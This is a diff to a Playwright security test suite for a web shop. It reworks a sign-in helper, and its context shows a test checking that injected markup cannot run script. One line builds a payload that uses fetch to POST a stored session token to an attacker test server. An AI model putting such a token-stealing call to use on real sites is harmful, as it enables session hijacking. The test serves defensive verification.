@@ -64,16 +64,15 @@ const test = base.extend<object, { attacker: Attacker }>({
 // The browser logs what it blocks.
 test.use({ provoked: /./ });
 
-/** Opens a page as a signed-in customer. @returns the session's token */
-async function openSignedIn(page: Page, broker: Broker, path = HOME): Promise<string> {
+/** Opens Home as a signed-in customer. @returns the session's token */
+async function openSignedIn(page: Page, broker: Broker): Promise<string> {
   const token = await tokenFor(broker, 'demo@fairlot.example');
   await page.goto('/#/pages/main/market/index');
   await putSession(page, token);
   // A new document: another address of the same one would come while the app is still taking the session up.
   await page.goto('about:blank');
-  await page.goto(`/#${path}`);
-  await expect(heading(page, 'Log in')).toHaveCount(0);
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  await page.goto(`/#${HOME}`);
+  await expect(heading(page, 'Home')).toBeVisible();
   return token;
 }
 
@@ -241,7 +240,6 @@ test.describe('markup that somebody has brought into the page', () => {
   test('cannot be made of text by the app’s own scripts', async ({ page, broker, attacker }) => {
     const caughtBefore = attacker.caught.length;
     await openSignedIn(page, broker);
-    await expect(heading(page, 'Home')).toBeVisible();
     const steal = `fetch('${attacker.url}/stolen',{method:'POST',mode:'no-cors',body:localStorage.getItem('${STORED}')})`;
     const found = await page.evaluate(async (code) => {
       const tried = async (work: () => unknown) => {
